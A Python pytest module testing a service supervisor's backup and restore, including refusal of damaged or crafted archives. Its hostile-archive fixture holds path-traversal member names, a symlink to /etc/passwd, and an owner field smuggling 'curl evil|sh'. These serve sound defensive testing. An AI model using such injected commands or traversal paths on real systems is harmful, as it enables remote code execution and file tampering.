"""A backup: what is in it comes back as it was or not at all, whoever has had a hand in it."""

import gzip
import hashlib
import io
import json
import os
import pwd
import shutil
import stat
import tarfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supervisor import daemon_backup, daemon_restore
from supervisor.core.launch import Launch
from supervisor.core.model import Generation, Life, Release, Request, Role, State
from supervisor.core.outcome import Outcome, Result
from supervisor.core.value import replace
from supervisor.engine import heritage
from supervisor.engine.journal import FORMAT, Journal
from supervisor.errors import HostError, OperatorError, ReleaseError
from supervisor.linux.lock import Lock
from supervisor.releases import backup, restore
from supervisor.releases.backup import Backup
from supervisor.releases.layout import Layout
from supervisor.releases.manifest import Item, Manifest, read, to_json
from supervisor.releases.restore import Proof
from supervisor.releases.seal import SAVING, destroy, sweep
from supervisor.releases.verify import verify
from tests.releases.stores import left, offer, put, sha256, store
from tests.releases.test_archive import NAMES

HISTORY = b'{"handoff": 1, "result": "committed"}\n{"handoff": 2, "result": "committed"}\n'


EXTREME = b'{"format": %d, "releases": [], "state": {}, "written": 1e999, "pid": 1e999}' % FORMAT


@dataclass(frozen=True)
class Host:
    """All that there is of one service."""

    folder: Path

    @property
    def config(self) -> Path:
        return self.folder / "etc/web.toml"

    @property
    def state(self) -> Path:
        return self.folder / "state"

    @property
    def layout(self) -> Layout:
        return Layout(self.folder / "web")

    def configure(self, releases: str = "", more: str = "") -> None:
        self.config.parent.mkdir(exist_ok=True)
        self.config.write_text(
            f'[service]\nname = "t"\ncommand = ["{self.layout.root}/current/server"]\nstate_dir = "{self.state}"\n'
            f'{more}[[listen]]\naddress = "127.0.0.1:0"\n[releases]\nroot = "{self.layout.root}"\n{releases}'
        )

    def remember(self, previous: str, concluded: int = 2, serves: str | None = None) -> None:
        """What a supervisor writes."""
        self.state.mkdir(mode=0o700, exist_ok=True)
        (self.state / "history.jsonl").write_bytes(HISTORY + b'{"hando')
        launch = Launch(argv=("server",), store=store(self.layout.root))
        release = Release(id="r", path="/r", device=1, inode=2, size=3, mtime_ns=4, launch=launch, version=previous)
        empty: Mapping[str, Any] = {"sets": {}, "listeners": [], "pipes": {}}
        written = Journal(self.state, "t", lambda: empty)
        ended = Outcome(
            handoff=concluded,
            request=Request(id="r"),
            result=Result.COMMITTED,
            failure=None,
            undone_by=None,
            from_release=release,
            to_release=release,
            from_generation=1,
            to_generation=2,
            phases=(),
            spoke_at=None,
            ended=1.0,
        )
        about: dict[str, Any] = {
            "number": 2,
            "role": Role.SERVING,
            "drain_signal": "TERM",
            "life": Life.DOWN,
            "since": 1.0,
        }
        serving = () if serves is None else (Generation(release=replace(release, version=serves), **about),)
        state = State(previous=release, last_handoff=2, concluded=ended, generations=serving)
        written.write(state, synced=True)
        written.close()

    def save(self, which: str = daemon_backup.USUAL, name: str = "t.tar.gz") -> Path:
        to = self.folder / name
        daemon_backup.save(self.config, which, to)
        return to

    def lose(self) -> None:
        for path in (self.layout.root, self.state, self.config.parent):
            if path.exists():
                destroy(path)

    def seen(self) -> dict[str, object]:
        """Everything that there is but the backups, and where it is."""
        found: dict[str, object] = {}
        for path in sorted(self.folder.rglob("*")):
            if path.suffix not in {".gz", ".tar"}:
                mode = path.lstat().st_mode
                content = str(path.readlink()) if path.is_symlink() else path.read_bytes() if path.is_file() else ""
                found[str(path.relative_to(self.folder))] = (mode, content)
        return found


@pytest.fixture
def host(tmp_path: Path) -> Host:
    """v1 to v3, of which v2 is current, and v1 what a rollback returns to."""
    made = Host(tmp_path)
    made.configure()
    for name in ("v1", "v2", "v3"):
        build = tmp_path / "build"
        (build / "static/deep").mkdir(parents=True)
        (build / "server").write_text(f"#!/bin/sh\necho {name}\n")
        (build / "server").chmod(0o755)
        (build / "static/deep/page").write_bytes(os.urandom(3000))
        (build / "static/page").symlink_to("../server")
        put(made.layout, offer(build, name, sha256=None))
        shutil.rmtree(build)
    made.layout.current_link.symlink_to("versions/v2")
    made.remember("v1")
    return made


def put_back(file: Path, **proof: Any) -> daemon_restore.Restored:  # noqa: ANN401 - what Proof takes
    return daemon_restore.put_back(file, Proof(**proof), None)


def refused(file: Path, host: Host, **proof: Any) -> str:  # noqa: ANN401 - what Proof takes
    """Why it is not put back. Nothing is changed."""
    before = host.seen()
    with pytest.raises((OperatorError, HostError)) as error:
        put_back(file, **proof)
    assert host.seen() == before
    return str(error.value)


# ---- there and back


def test_all_that_was_asked_for_is_there_again(host: Host) -> None:
    host.config.chmod(0o640)
    sealed = {name: read(host.layout.folder(name)) for name in ("v1", "v2")}
    file = host.save()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    text = host.config.read_bytes()
    host.lose()
    done = put_back(file)
    assert done.new == ("v1", "v2")
    assert host.layout.names() == ["v1", "v2"], "by age, as prune counts them"
    for name, manifest in sealed.items():
        assert manifest is not None
        assert read(host.layout.folder(name)) == manifest
        verify(host.layout.folder(name), manifest)
        assert stat.S_IMODE(host.layout.folder(name).stat().st_mode) == 0o555
    assert str(host.layout.current_link.readlink()) == "versions/v2"
    assert host.config.read_bytes() == text
    assert stat.S_IMODE(host.config.stat().st_mode) == 0o640
    assert (host.state / "history.jsonl").read_bytes() == HISTORY, "without the line that was being written"
    assert stat.S_IMODE(host.state.stat().st_mode) == 0o700
    found = heritage.read(host.state)
    assert found is not None
    assert (found.same_boot, found.state.last_handoff) == (False, 2)
    assert found.state.previous is not None
    assert found.state.previous.version == "v1"
    assert left(host.layout) == []
    assert {*host.state.iterdir()} == {host.state / name for name in ("history.jsonl", "journal.json", "lock")}


@pytest.mark.parametrize(
    ("which", "there"),
    [("current", ["v2"]), ("none", []), ("all", ["v1", "v2", "v3"]), ("v3,previous", ["v1", "v3"])],
)
def test_releases_are_chosen(host: Host, which: str, there: list[str]) -> None:
    file = host.save(which)
    host.lose()
    plan = put_back(file).plan
    assert host.layout.names() == there
    assert sorted([*plan.examined.versions, *plan.examined.absent]) == ["v1", "v2", "v3"], "each manifest is in it"
    assert host.layout.current() == ("v2" if "v2" in there else None)


def test_what_cannot_be_chosen(host: Host) -> None:
    with pytest.raises(OperatorError, match="there is no version v9"):
        host.save("v9")
    (host.layout.versions / "hand").mkdir()
    host.save("current")
    with pytest.raises(ReleaseError, match="hand has no manifest of its own"):
        host.save("all", "all.tar.gz")
    page = host.layout.folder("v1") / "static/deep/page"
    page.chmod(0o644)
    with pytest.raises(ReleaseError, match="v1 is not as it was sealed"):
        host.save("previous", "previous.tar.gz")
    assert sorted(each.name for each in host.folder.glob("*.tar.gz")) == ["t.tar.gz"]
    with pytest.raises(OperatorError, match="is there already"):
        host.save("current")
    assert not list(host.folder.glob(f"{SAVING}*"))


def test_among_the_stores_own_and_one_at_a_time(host: Host) -> None:
    saved = daemon_backup.save(host.config, "current", None)
    assert saved.file is not None
    assert Path(saved.file).parent == host.layout.backups
    assert saved.sha256 == sha256(Path(saved.file))
    with host.layout.alone(), pytest.raises(HostError, match="is being changed by pid"):
        daemon_backup.save(host.config, "current", None)
    (host.layout.backups / f"{SAVING}t.tar.gz").touch()
    with host.layout.alone():
        assert sweep(host.layout) == ["the writing of t.tar.gz"]


def test_what_is_named_and_not_in_it(host: Host, tmp_path: Path) -> None:
    key, page = tmp_path / "key.pem", tmp_path / "page"
    page.touch()
    host.configure(f'keys = ["{key}"]', f'environment = {{ PAGE = "{page}", NONE = "{tmp_path}/none" }}\n')
    file = host.save()
    page.unlink()
    host.lose()
    plan = put_back(file).plan
    assert plan.examined.manifest.refers == plan.lacking == (str(key), str(page))


def test_it_waits_until_what_has_ended_is_in_the_history(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    """A supervisor writes the one before the other."""
    late = b'{"handoff": 3, "result": "committed"}\n'
    history = host.state / "history.jsonl"
    host.remember("v1", concluded=3)
    history.write_bytes(HISTORY)

    def pause(seconds: float) -> None:
        assert seconds < 1
        history.write_bytes(HISTORY + late)

    monkeypatch.setattr("time.sleep", pause)
    assert examined(host.save()).small[backup.HISTORY] == HISTORY + late


# ---- a host that is not empty


def test_the_same_again_is_success(host: Host) -> None:
    file = host.save()
    host.lose()
    put_back(file)
    before = host.seen()
    assert put_back(file).new == ()
    assert host.seen() == before


def in_the_way(host: Host, what: str) -> None:
    match what:
        case "v1 is there, and is another":
            program = host.folder / "program"
            program.write_bytes(b"#!/bin/sh\n")
            put(host.layout, offer(program))
        case "v1 is not as it was sealed":
            page = host.layout.folder("v1") / "static/deep/page"
            page.chmod(0o644)
            page.write_bytes(b"another")
        case "v3 is there, and not in the backup":
            (host.layout.folder("v3")).mkdir(parents=True)
        case "current is there, and leads elsewhere":
            host.layout.root.mkdir(exist_ok=True)
            host.layout.current_link.unlink(missing_ok=True)
            host.layout.current_link.symlink_to("versions/v1")
        case "web.toml is there, and is another":
            host.configure("keep = 3\n")
        case "history.jsonl is there, and is another":
            host.state.mkdir(exist_ok=True)
            (host.state / "history.jsonl").write_bytes(HISTORY * 2)
        case "journal.json is there, and is another":
            host.remember("v3")


@pytest.mark.parametrize(
    ("what", "gone"),
    [
        ("v1 is there, and is another", True),
        ("v1 is not as it was sealed", False),
        ("v3 is there, and not in the backup", True),
        ("current is there, and leads elsewhere", True),
        ("current is there, and leads elsewhere", False),
        ("web.toml is there, and is another", True),
        ("history.jsonl is there, and is another", True),
        ("journal.json is there, and is another", False),
    ],
)
def test_what_is_there_and_is_another_is_in_the_way(host: Host, what: str, *, gone: bool) -> None:
    file = host.save()
    host.lose()
    if not gone:
        put_back(file)
    in_the_way(host, what)
    said = refused(file, host)
    assert said.startswith("this host is not empty: ")
    assert what in said


def test_a_supervisor_of_the_service_is_in_the_way(host: Host) -> None:
    file = host.save()
    host.lose()
    put_back(file)
    lock = Lock(host.state / "lock", "service t")
    assert f"service t is already supervised by pid {os.getpid()}" in refused(file, host)
    lock.release()


# ---- who vouches for it


def test_what_it_is_checked_by(host: Host) -> None:
    file = host.save()
    host.lose()
    assert "is not what it should be" in refused(file, host, sha256="0" * 64)
    sums = host.folder / "SHA256SUMS"
    sums.write_text(f"{sha256(file)}  {file.name}\n")
    assert put_back(file, sha256=str(sums)).plan.examined.checks == (f"sha256 {sha256(file)}",)


def test_where_checks_are_required_the_backup_has_to_be_vouched_for(host: Host) -> None:
    host.configure('require = ["sha256"]')
    file = host.save()
    host.lose()
    assert "say --sha256" in refused(file, host)
    put_back(file, sha256=sha256(file))


def test_a_configuration_goes_to_no_file_of_another_kind(host: Host) -> None:
    """A text that is TOML can be a script as well."""
    other = host.config.with_suffix(".sh")
    host.config.rename(other)
    daemon_backup.save(other, "none", host.folder / "t.tar")
    host.lose()
    assert "no other than .toml is written" in refused(host.folder / "t.tar", host)
    daemon_restore.put_back(host.folder / "t.tar", Proof(), other)
    assert other.exists()


# ---- what may be wrong with it


def made_of(host: Host, members: Mapping[str, bytes | Item], change: Callable[[Any], None] | None = None) -> Path:
    """A backup that says of itself what it likes. An `Item` is there as it says; bytes are a plain file."""
    content = {path: each for path, each in members.items() if isinstance(each, bytes)}
    items = tuple(
        each
        if isinstance(each, Item)
        else Item(path=path, mode=0o444, size=len(each), sha256=hashlib.sha256(each).hexdigest())
        for path, each in members.items()
    )
    manifest = Backup(
        gapless="0",
        service="t",
        host="h",
        made=0.0,
        uid=0,
        user="u",
        config=str(host.config),
        root=str(host.layout.root),
        current=None,
        owner=None,
        refers=(),
        members=items,
    )
    written = io.BytesIO()
    backup.write(written, manifest, content, host.layout, packed=False)
    file = host.folder / "made.tar"
    file.write_bytes(written.getvalue())
    if change is not None:
        with tarfile.open(file) as tar:
            found = [(each, stream.read() if (stream := tar.extractfile(each)) else b"") for each in tar]
        said = json.loads(found[0][1])
        change(said)
        said["digest"] = backup.digest_of(said)
        found[0] = (found[0][0], json.dumps(said).encode())
        with tarfile.open(file, "w") as tar:
            for info, data in found:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return file


def version(*items: Item, name: str = "v1", of: str = "v1") -> dict[str, bytes | Item]:
    manifest = Manifest(version=of, items=items, origin="/o", origin_sha256=None, uid=0, user="u", added=0.0, checks=())
    return {f"versions/{name}/.gapless.json": to_json(manifest)}


PROGRAM = b"#!/bin/sh\n"
SERVER = Item(path="server", mode=0o555, size=len(PROGRAM), sha256=hashlib.sha256(PROGRAM).hexdigest())


def hostile(host: Host) -> dict[str, Path]:
    """Why each is refused."""
    config = {"config.toml": host.config.read_bytes()}
    lost = replace(SERVER, path="a/server", mode=0o444)
    link = Item(path="versions/v1/link", kind="link", mode=0, target="../v2/server")
    found: dict[str, tuple[Mapping[str, bytes | Item], Callable[[Any], None] | None]] = {
        "a newer version of gapless": (config, lambda said: said.update(format=2)),
        "no version of gapless": (config, lambda said: said.update(format="1")),
        "it has no configuration": ({}, None),
        "leads out of the release": ({**config, "versions/v1/../evil": b"x"}, None),
        '".." cannot be the name of a version': ({**config, "versions/../evil": b"x"}, None),
        "which leads out of the release": ({**config, "l": link}, None),
        "passwd is nothing that a backup has": ({**config, "etc/passwd": b"x"}, None),
        "/evil is nothing that a backup has": ({**config, "/evil": b"x"}, None),
        "names something twice": (config, lambda said: said["members"].append(said["members"][0])),
        "is no full path": (config, lambda said: said.update(config="web.toml")),
        "inf is no time": (config, lambda said: said.update(made=float("inf"))),
        "is no time": (config, lambda said: said.update(made="100")),
        "is no user's name": (config, lambda said: said.update(owner="web /srv; curl evil|sh #")),
        "the history in the backup is damaged": ({**config, "state/history.jsonl": b"[" * 200_000}, None),
        "the journal in the backup": ({**config, "state/journal.json": b"[" * 200_000}, None),
        "the journal in the backup is damaged: ": ({**config, "state/journal.json": EXTREME}, None),
        "has more in it than any": (config, lambda said: said.update(refers=[[]] * 4_000_001)),
        "has mode 4755": (config, lambda said: said["members"][0].update(mode="4755")),
        "want a SHA-256": (config, lambda said: said["members"][0].update(sha256="x")),
        "is another than its manifest says": (config, lambda said: said["members"][0].update(size=1)),
        "is not what it was": (config, lambda said: said["members"][0].update(sha256="0" * 64)),
        "config.toml is missing": ({}, lambda said: said["members"].append(_said(config["config.toml"]))),
        "is not in its manifest": ({**config, "state/history.jsonl": b""}, lambda said: said["members"].pop()),
        "server of v1 is not in the backup": ({**config, **version(SERVER)}, None),
        "server is in the backup, and not": ({**config, **version(), "versions/v1/server": PROGRAM}, None),
        "server is in the backup without": ({**config, "versions/v1/server": PROGRAM}, None),
        "a/server of v1 is in no folder": ({**config, **version(lost), "versions/v1/a/server": PROGRAM}, None),
        "is that of v2": ({**config, **version(of="v2")}, None),
        "the journal in the backup is damaged": ({**config, "state/journal.json": b"{}{"}, None),
        "is of a newer version": ({**config, "state/journal.json": b'{"format": 99}'}, None),
        "is not TOML": ({"config.toml": b"["}, None),
        "is of another service": (config, lambda said: said.update(service="other")),
        "of another service than": (config, lambda said: said.update(root="/elsewhere")),
    }
    return {why: made_of(host, *each).rename(host.folder / f"{at}.tar") for at, (why, each) in enumerate(found.items())}


def _said(content: bytes) -> dict[str, object]:
    digest = hashlib.sha256(content).hexdigest()
    return {"path": "config.toml", "kind": "file", "mode": "0444", "size": len(content), "sha256": digest}


def test_what_a_backup_may_not_have(host: Host) -> None:
    files = hostile(host)
    host.lose()
    for why, file in files.items():
        assert why in refused(file, host), file
    assert not host.layout.root.exists()


def test_what_no_backup_is(host: Host) -> None:
    host.lose()
    file = host.folder / "x.tar"
    for content, why in ((b"", "damaged"), (bytes(10240), "it is no backup"), (b"x" * 5000, "damaged")):
        file.write_bytes(content)
        assert why in refused(file, host)
    with tarfile.open(file, "w") as tar:
        tar.addfile(tarfile.TarInfo("other"))
    assert "it begins with other" in refused(file, host)
    os.mkfifo(host.folder / "fifo")
    assert "is no file" in refused(host.folder / "fifo", host)
    assert "cannot be read" in refused(host.folder / "nowhere", host)


def test_one_that_is_cut_short_anywhere(host: Host) -> None:
    whole = host.save().read_bytes()
    plain = gzip.decompress(whole)
    ends = len(plain.rstrip(b"\0"))
    host.lose()
    file = host.folder / "cut.tar"
    for data, points in ((whole, range(0, len(whole), len(whole) // 40)), (plain, range(0, ends, ends // 40))):
        for at in points:
            file.write_bytes(data[:at])
            assert refused(file, host), at
    file.write_bytes(whole[:-1])
    assert "damaged" in refused(file, host), "the checksum at its end is looked at"


@settings(max_examples=60, deadline=None)
@given(at=st.integers(0, 1 << 20), data=st.binary(min_size=1, max_size=600))
def test_damage_is_refused_or_changes_nothing(tmp_path_factory: pytest.TempPathFactory, at: int, data: bytes) -> None:
    host = Host(tmp_path_factory.mktemp("h"))
    host.configure()
    server = {**version(SERVER), "versions/v1/server": replace(SERVER, path="versions/v1/server")}
    host.layout.make()
    (host.layout.versions / "v1").mkdir()
    (host.layout.versions / "v1/server").write_bytes(PROGRAM)
    file = made_of(host, {"config.toml": host.config.read_bytes(), **server})
    whole = file.read_bytes()
    at %= len(whole)
    before = examined(file)
    file.write_bytes(whole[:at] + data + whole[at + len(data) :])
    try:
        found = examined(file)
    except OperatorError:
        return
    assert (found.small, found.versions) == (before.small, before.versions)
    assert found.manifest == before.manifest


def test_what_somebody_has_signed_is_what_is_unpacked(host: Host) -> None:
    file = host.save()
    whole = file.read_bytes()
    with restore.opened(file, Proof(signature=file)) as opened:
        file.write_bytes(b"another")
        assert opened.read() == whole


def test_a_version_that_is_not_asked_for_stops_no_backup(host: Host) -> None:
    shutil.copytree(host.layout.folder("v1"), host.layout.folder("v1-old"), symlinks=True)
    damaged = host.layout.folder("v3") / ".gapless.json"
    damaged.chmod(0o600)
    damaged.write_text("junk")
    saved = daemon_backup.save(host.config, "current", host.folder / "t.tar.gz")
    told = "\n".join(saved.lacks)
    assert "no manifest of v1-old: it has that of v1" in told
    assert "no manifest of v3: " in told
    host.lose()
    assert put_back(host.folder / "t.tar.gz").new == ("v2",)


def test_what_serves_is_in_it_though_current_leads_elsewhere(host: Host) -> None:
    host.remember("v1", serves="v3")
    saved = daemon_backup.save(host.config, "current", host.folder / "t.tar.gz")
    assert set(saved.manifest.versions) == {"v2", "v3"}
    assert "no agreement: v3 serves, and current leads to v2" in saved.lacks


def test_what_nobody_could_restore_is_not_written_to_a_pipe_either(
    host: Host, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    (host.folder / "zeros").write_bytes(bytes(100 << 20))
    put(host.layout, offer(host.folder / "zeros", "v4"))
    with pytest.raises(OperatorError, match="200 times"):
        daemon_backup.save(host.config, "v4", None, stream=True)
    assert capfdbinary.readouterr().out == b""
    assert left(host.layout) == []


def test_state_that_is_no_file_is_not_followed(host: Host) -> None:
    (host.state / "history.jsonl").unlink()
    (host.state / "history.jsonl").symlink_to("/etc/passwd")
    with pytest.raises(HostError, match=r"history.jsonl is a link, and no plain file"):
        host.save()
    (host.state / "history.jsonl").unlink()
    os.mkfifo(host.state / "history.jsonl")
    with pytest.raises(HostError, match=r"history.jsonl is no plain file"):
        host.save()


def test_what_cannot_be_written_is_told_before_anything_is(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    """To root all may be written, so that the kernel's answer is made up."""
    file = host.save()
    host.lose()
    (host.folder / "etc").mkdir()
    monkeypatch.setattr(os, "access", lambda path, _: Path(path) != host.folder / "etc")
    assert f"{host.folder}/etc cannot be written to by you" in refused(file, host)


def test_an_owner_with_an_odd_name_is_told_by_number(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = replace_name(pwd.getpwuid(os.getuid()), "CORP\\web")
    monkeypatch.setattr(pwd, "getpwuid", lambda _: odd)
    host.save()
    assert examined(host.folder / "t.tar.gz").manifest.owner == str(os.getuid())


def replace_name(entry: pwd.struct_passwd, name: str) -> pwd.struct_passwd:
    return pwd.struct_passwd((name, *entry[1:]))


def test_a_manifest_that_was_damaged_tells_so_itself(host: Host) -> None:
    """What is not packed has no checksum."""
    file = made_of(host, {"config.toml": host.config.read_bytes()})
    whole = file.read_bytes()
    file.write_bytes(whole.replace(b'"user": "u"', b'"user": "x"'))
    assert file.read_bytes() != whole
    host.lose()
    assert "its digest is that of another" in refused(file, host)


def examined(file: Path) -> restore.Examined:
    with restore.opened(file, Proof()) as opened:
        return restore.examine(opened, file, Proof())


@settings(max_examples=60, deadline=None)
@given(
    names=st.lists(st.tuples(NAMES, st.sampled_from(["file", "folder", "link"]), NAMES), min_size=1, max_size=4),
    version_name=st.one_of(st.just("v1"), NAMES),
)
def test_whatever_the_names_are_all_that_is_made_is_inside(
    tmp_path_factory: pytest.TempPathFactory, names: list[tuple[str, str, str]], version_name: str
) -> None:
    """Manifest, archive and the version's own manifest agree, so that nothing but the names can be wrong."""
    host = Host(tmp_path_factory.mktemp("h") / "deep")
    host.folder.mkdir()
    host.configure()
    text = host.config.read_bytes()
    items = {name: _named(name, kind, target) for name, kind, target in names}
    content: dict[str, bytes | Item] = {"config.toml": text}
    try:
        content |= version(*(items[each] for each in sorted(items)), name=version_name, of=version_name)
        for name, item in items.items():
            path = f"versions/{version_name}/{name}"
            content[path] = PROGRAM if item.kind == "file" else replace(item, path=path)
        file = made_of(host, content)
    except (ValueError, OSError):
        return  # no tar can say so
    host.lose()
    try:
        put_back(file)
    except OperatorError:
        assert not host.layout.root.exists()
    else:
        there = host.layout.folder(version_name)
        assert {str(each.relative_to(there)) for each in there.rglob("*")} == {*items, ".gapless.json"}
    assert [each.name for each in host.folder.parent.iterdir()] == ["deep"]
    assert {each.name for each in host.folder.iterdir()} <= {"made.tar", "etc", "web", "state"}


def _named(name: str, kind: str, target: str) -> Item:
    match kind:
        case "file":
            return replace(SERVER, path=name, mode=0o444)
        case "folder":
            return Item(path=name, kind="folder", mode=0o555)
        case _:
            return Item(path=name, kind="link", mode=0, target=target)
